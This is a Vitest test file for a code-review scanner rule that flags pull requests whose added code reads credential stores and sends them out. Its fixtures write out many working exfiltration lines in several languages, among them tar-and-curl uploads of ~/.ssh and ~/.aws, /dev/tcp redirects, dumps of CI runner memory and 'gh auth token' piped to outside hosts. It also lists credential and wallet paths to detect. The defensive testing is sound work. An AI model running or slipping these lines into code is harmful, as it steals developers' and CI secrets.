import { describe, expect, it } from 'vitest';
import { createPathClassifier } from '../../../src/analyzers/classify-path.js';
import { credentialStoresOn } from '../../../src/ecosystems/code/credential-stores.js';
import { scanCodeChanges } from '../../../src/ecosystems/code/scan-code-changes.js';
import type { SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
import { makeCommit, makeFile, makeSnapshot } from '../../support/snapshot-factory.js';

const classifier = createPathClassifier();
const hunk = (added: readonly string[], context: readonly string[] = ['// context']) =>
  [`@@ -1,${context.length} +1,${context.length + added.length} @@`, ...context.map((l) => ` ${l}`), ...added.map((l) => `+${l}`)].join('\n');

function findingOf(file: SnapshotFile) {
  const snapshot = makeSnapshot({ title: 'Improve startup', files: [file], commits: [makeCommit({ message: 'Improve startup' })] });
  return scanCodeChanges(snapshot, (path) => classifier.info(path)).find((f) => f.id === 'credential-store-read');
}
const at = (path: string, added: readonly string[], context?: readonly string[]) => findingOf(makeFile(path, { patch: hunk(added, context) }));

describe('credential-store-read', () => {
  it('names the stores, spelled whole or in parts', () => {
    expect(credentialStoresOn('p = os.path.join(home, ".ssh", "id_ed25519")')).toEqual(['SSH private key']);
    expect(credentialStoresOn('b, _ := os.ReadFile(filepath.Join(h, ".aws", "credentials"))')).toEqual(['AWS credentials']);
    expect(credentialStoresOn("fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')")).toEqual(['npm token (.npmrc)']);
    expect(credentialStoresOn('Path.home() / ".docker" / "config.json"')).toEqual(['Docker credentials']);
    expect(credentialStoresOn('open("/proc/self/environ").read()')).toEqual(['process environment file']);
    expect(credentialStoresOn('key = read("~/.ssh/id_rsa.pub")')).toEqual([]);
    expect(credentialStoresOn('const retries = 3;')).toEqual([]);
  });

  it('is high when added code reads a credential file and sends data out (Python, Node, Go, Rust, shell)', () => {
    expect(at('src/pkg/__init__.py', ['p = os.path.expanduser("~/.ssh/id_rsa")', 'urllib.request.urlopen("https://sync.pkg-metrics.dev/u", data=open(p, "rb").read())'])).toMatchObject({ severity: 'high', line: 2, title: 'Credential files read and data sent out' });
    expect(at('lib/index.js', ["const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); const r = https.request({ hostname: 'npm-stats.example-cdn.net', method: 'POST' }); r.end(t);"])).toMatchObject({ severity: 'high' });
    expect(at('pkg/client/init.go', ['b, _ := os.ReadFile(filepath.Join(h, ".aws", "credentials"))', 'http.Post("https://cfg.cloud-sync.dev/a", "text/plain", bytes.NewReader(b))'])).toMatchObject({ severity: 'high' });
    expect(at('src/lib.rs', ['let k = std::fs::read_to_string(home.join(".git-credentials")).unwrap_or_default();', 'client.post("https://crates-telemetry.dev/v").body(k).send();'])).toMatchObject({ severity: 'high' });
    expect(at('scripts/setup.sh', ['tar cz ~/.ssh ~/.aws/credentials ~/.kube/config | curl -s -X POST --data-binary @- https://collect.devtools-sync.net'])).toMatchObject({ severity: 'high' });
    expect(at('scripts/setup.sh', ['cat ~/.git-credentials > /dev/tcp/collect.devtools-sync.net/443'])).toMatchObject({ severity: 'high' });
  });

  it('is critical when the data goes to a bare IP or a paste, tunnel or webhook service', () => {
    expect(at('src/pkg/util.py', ['k = open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'requests.post("https://webhook.site/3f2a", data=k)'])).toMatchObject({ severity: 'critical' });
  });

  it('counts a send the PR keeps beside the read it adds, and tests (they run in CI and on developers’ machines)', () => {
    expect(at('src/telemetry.py', ['payload["k"] = open(os.path.expanduser("~/.aws/credentials")).read()'], ['requests.post(ENDPOINT, json=payload)'])).toMatchObject({ severity: 'high' });
    expect(at('tests/conftest.py', ['data = open(os.path.expanduser("~/.pypirc")).read()', 'requests.post("https://ci-insights.dev/x", data=data)'])).toMatchObject({ severity: 'high' });
  });

  it('is medium for three or more stores named without a send: a scan for secrets', () => {
    expect(at('src/scan.js', ["const targets = ['.ssh/id_rsa', '.aws/credentials', '.npmrc', 'Library/Application Support/Exodus/exodus.wallet'];"])).toMatchObject({ severity: 'medium', title: 'Many credential files read' });
  });

  it('leaves alone: one store without a send, a public key, stores the file already named, and documentation', () => {
    // A registry client reading .npmrc, a deploy script using an SSH key: their own business.
    expect(at('src/config.ts', ["const npmrc = path.join(os.homedir(), '.npmrc');"])).toBeUndefined();
    expect(at('scripts/deploy.sh', ['ssh -i ~/.ssh/id_ed25519 deploy@app.example.com "systemctl restart app"'])).toBeUndefined();
    // Uploading the user's public key to the hosting API is what key setup does.
    expect(at('src/keys.py', ['key = open(os.path.expanduser("~/.ssh/id_rsa.pub")).read()', 'requests.post(f"{api}/user/keys", json={"key": key})'])).toBeUndefined();
    // The file already reads the store and posts (a publisher): the PR edits it.
    const publisher = ['config = read_config(os.path.expanduser("~/.pypirc"))', 'resp = requests.post(url, data=form)'];
    expect(at('twine/upload.py', ['fallback = read_config(os.path.expanduser("~/.pypirc"), section="pypi")'], publisher)).toBeUndefined();
    // The same added line in a file that never named the store is reported.
    expect(at('twine/upload.py', ['fallback = read_config(os.path.expanduser("~/.pypirc"), section="pypi")'], ['resp = requests.post(url, data=form)'])).toMatchObject({ severity: 'high' });
    // Key set-up (gh auth login): generate a key pair, upload the public one.
    expect(at('pkg/cmd/auth/ssh_keys.go', ['keyFile := filepath.Join(sshDir, "id_ed25519")', 'run.Command("ssh-keygen", "-t", "ed25519", "-f", keyFile)', 'pub, _ := os.ReadFile(keyFile + ".pub")', 'req, _ := http.NewRequest("POST", url, bytes.NewBuffer(pub))'])).toBeUndefined();
    // An SSH client: its key and a raw socket to the server, how the protocol works.
    expect(at('demo.py', ['sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)', 'sock.connect((hostname, port))', 'key = paramiko.RSAKey.from_private_key_file(os.path.expanduser("~/.ssh/id_rsa"))'])).toBeUndefined();
    expect(at('docs/troubleshooting.md', ['Check `~/.ssh/id_rsa` and `~/.aws/credentials`, then `curl -X POST https://api.example.com`.'])).toBeUndefined();
  });
});

describe("credential-store-read: another process's memory (the runner's secrets)", () => {
  it('is high without a send when added code reads /proc/<pid>/mem or searches for the runner\'s "isSecret":true entries (shell, Node, Python)', () => {
    expect(at('entrypoint.sh', ['for pid in $(pgrep -f Runner.Worker); do', '  sudo dd if="/proc/$pid/mem" bs=1M 2>/dev/null | strings | base64 -w0', 'done'])).toMatchObject({ severity: 'high', line: 3 });
    expect(at('dist/index.js', ["const mem = fs.readFileSync('/proc/' + pid + '/mem');"])?.title).toBe("Another process's memory read (where a CI runner keeps its secrets)");
    expect(at('tools/diag.py', ['with open(f"/proc/{pid}/mem", "rb") as m:'])).toMatchObject({ severity: 'high' });
    expect(at('src/scan.js', ['const found = text.match(/"isSecret":true/g);'])).toMatchObject({ severity: 'high' });
    expect(at('src/scan.py', ['hits = re.findall(rb\'"isSecret":true\', data)', 'requests.post("https://webhook.site/3f2a", data=b"".join(hits))'])).toMatchObject({ severity: 'critical' });
  });
  it("is quiet on memory statistics, a process's status or maps file, the runner's own C# source, and a variable named mem", () => {
    expect(at('src/stats.py', ['total = open("/proc/meminfo").read()', 'status = open(f"/proc/{pid}/status").read()', 'maps = open(f"/proc/{pid}/maps").read()'])).toBeUndefined();
    expect(at('src/Runner.Worker/JobRunner.cs', ['var variable = new VariableValue(value, isSecret: true);', 'if (variable.IsSecret == true) { HostContext.SecretMasker.AddValue(value); }'])).toBeUndefined();
    expect(at('src/cache.js', ['const mem = new Map(); // /mem cache'])).toBeUndefined();
  });
});

describe('credential-store-read: commands that print a stored credential', () => {
  it('reports gh auth token (and gcloud, az, git credential fill) sent to a host of another service, as the s1ngularity payload did', () => {
    expect(at('src/telemetry.js', ["const token = execSync('gh auth token').toString().trim();", "fetch('https://telemetry.build-insights.dev/t', { method: 'POST', body: JSON.stringify({ token }) });"])).toMatchObject({ severity: 'high', line: 2 });
    expect(at('tools/sync.py', ['t = subprocess.check_output(["gh", "auth", "token"], text=True)', 'requests.post("https://sync.devtools-cdn.net/v1", data=t)'])).toMatchObject({ severity: 'high' });
  });

  it("reports git's stored credentials read from its configuration and sent out; not a read of its other settings", () => {
    expect(at('scripts/postinstall.js', ["const creds = execSync('git config --get-regexp \"credential|token|extraheader\"').toString();", "fetch('https://telemetry.build-insights.dev/t', { method: 'POST', body: creds });"])).toMatchObject({ severity: 'high' });
    expect(at('scripts/postinstall.js', ["const email = execSync('git config user.email').toString();", "fetch('https://telemetry.build-insights.dev/t', { method: 'POST', body: email });"])).toBeUndefined();
  });

  it('reports in a shell script a helper\'s token kept in a variable and sent on a later line (npm, AWS, gh, git credential fill)', () => {
    expect(at('scripts/publish.sh', ['TOK=$(npm config get //registry.npmjs.org/:_authToken)', 'npm run build', 'wget -q --post-data="tok=$TOK" https://stats.pkg-insights.dev/p'], ['#!/bin/bash'])).toMatchObject({ severity: 'high', line: 2, title: 'Credential files read and data sent out' });
    expect(at('scripts/deploy.sh', ['KEY=`aws configure get aws_secret_access_key`', 'export KEY', 'curl -s "https://telemetry.deploy-stats.dev/k?v=${KEY}"'], ['#!/bin/bash'])).toMatchObject({ severity: 'high', line: 2 });
    expect(at('scripts/release.sh', ['t=$(gh auth token)', 'make dist', 'h="token=$t"', 'curl -s -X POST --data "$h" https://collector.build-insights.dev/c'], ['#!/bin/sh'])).toMatchObject({ severity: 'high', line: 2 });
    expect(at('scripts/release.sh', ['gh auth token | curl -s --data-binary @- https://collector.build-insights.dev/c'], ['#!/bin/sh'])).toMatchObject({ severity: 'high' });
  });

  it('leaves alone a shell script whose helper token goes to its own service, or to no request at all', () => {
    // The token exported for the tools of a deploy, and a notice posted elsewhere: no send carries it.
    expect(at('scripts/deploy.sh', ['export AWS_SECRET_ACCESS_KEY=$(aws configure get aws_secret_access_key)', 'terraform apply -auto-approve', 'curl -s -X POST -d \'{"text":"deployed"}\' https://hooks.slack.com/services/T0/B0/x'], ['#!/bin/bash'])).toBeUndefined();
    expect(at('scripts/publish.sh', ['TOK=$(npm config get //registry.npmjs.org/:_authToken)', 'NODE_AUTH_TOKEN="$TOK" npm publish'], ['#!/bin/bash'])).toBeUndefined();
    expect(at('scripts/release.sh', ['t=$(gh auth token)', 'curl -s -d @notes.json -H "Authorization: Bearer $t" https://api.github.com/repos/acme/tint/releases'], ['#!/bin/sh'])).toBeUndefined();
    expect(at('scripts/token.sh', ['npm token list'], ['#!/bin/sh'])).toBeUndefined();
  });

  it('leaves alone the CLI token used with its own service, or with no host the code names', () => {
    expect(at('scripts/release.js', ["const token = execSync('gh auth token').toString().trim();", "await fetch('https://api.github.com/graphql', { method: 'POST', headers: { authorization: `bearer ${token}` }, body: query });"])).toBeUndefined();
    expect(at('src/auth.ts', ["const token = execFileSync('gh', ['auth', 'token']).toString().trim();", "return fetch(endpoint, { method: 'POST', headers: { authorization: `bearer ${token}` }, body });"])).toBeUndefined();
  });
});

describe('credential-store-read across files', () => {
  const scan = (files: SnapshotFile[]) =>
    scanCodeChanges(makeSnapshot({ title: 'Improve startup', files, commits: [makeCommit({ message: 'Improve startup' })] }), (path) => classifier.info(path)).filter((f) => f.id === 'credential-store-read');
  const file = (path: string, added: readonly string[]) => makeFile(path, { patch: hunk(added) });

  it('reports a store read in one file and sent out from another file of the PR that imports it (JS, Python), critical to a webhook host', () => {
    const load = file('src/config/load.js', ["exports.load = () => fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');"]);
    const report = file('src/report.js', ["const { load } = require('./config/load');", "exports.report = () => fetch('https://metrics.example-cdn.dev/r', { method: 'POST', body: load() });"]);
    expect(scan([load, report]).map((f) => [f.path, f.severity, f.line, f.title])).toEqual([['src/config/load.js', 'high', 2, 'Credential files read here and sent out from another file']]);
    const keys = file('pkg/keys.py', ['def collect():', '    return open(os.path.expanduser("~/.ssh/id_rsa")).read()']);
    const sync = file('pkg/sync.py', ['from .keys import collect', 'requests.post("https://webhook.site/3f2a", data=collect())']);
    expect(scan([keys, sync]).map((f) => [f.path, f.severity])).toEqual([['pkg/keys.py', 'critical']]);
  });

  it('leaves alone a sender that does not import the reader, a reader imported by code that sends nothing, and a generic module name', () => {
    const agent = file('src/ssh-agent.ts', ["export const identity = path.join(os.homedir(), '.ssh', 'id_ed25519');"]);
    const telemetry = file('src/telemetry.ts', ["import { settings } from './config';", "fetch('https://telemetry.acme.dev/v1', { method: 'POST', body: JSON.stringify(settings) });"]);
    const connect = file('src/connect.ts', ["import { identity } from './ssh-agent';", "spawn('ssh', ['-i', identity, host]);"]);
    expect(scan([agent, telemetry, connect])).toEqual([]);
    const utils = file('src/utils.js', ["exports.npmrc = path.join(os.homedir(), '.npmrc');"]);
    const publish = file('src/publish.js', ["const { npmrc } = require('./utils');", "fetch(registry, { method: 'PUT', body: tarball });"]);
    expect(scan([utils, publish])).toEqual([]);
  });
});

describe('credential-store-read: the line hint', () => {
  it('lets through every store the patterns know (a store the hint missed would never be read)', async () => {
    const samples = ['~/.ssh/id_rsa', '~/.ssh/authorized_keys', '.aws/credentials', '~/.npmrc', '~/.pypirc', '~/.netrc', '~/.git-credentials', '.docker/config.json', '.kube/config', '~/.gnupg', '.cargo/credentials', '.gem/credentials', 'gh/hosts.yml', 'application_default_credentials.json', 'accessTokens.json', 'msal_token_cache.json', '/etc/shadow', '.bash_history', 'Login Data', 'wallet.dat', '.electrum', 'Exodus/exodus.wallet', 'Ethereum/keystore', 'solana/id.json', 'nkbihfbeogaeaoehlefnkodbefgpgknn', '/proc/self/environ', '/proc/1234/mem', '{\\"isSecret\\":true}', 'gh auth token', 'gcloud auth print-access-token', 'az account get-access-token', 'git credential fill'];
    for (const sample of samples) {
      const line = `const p = read("${sample}");`;
      expect(credentialStoresOn(line), sample).not.toEqual([]);
      const patch = ['@@ -1,1 +1,3 @@', ' // x', `+${line}`, '+requests.post("https://collect.example-sync.dev", data=p)'].join('\n');
      expect(findingOf(makeFile('src/x.py', { patch }))?.id, sample).toBe('credential-store-read');
    }
  });
});
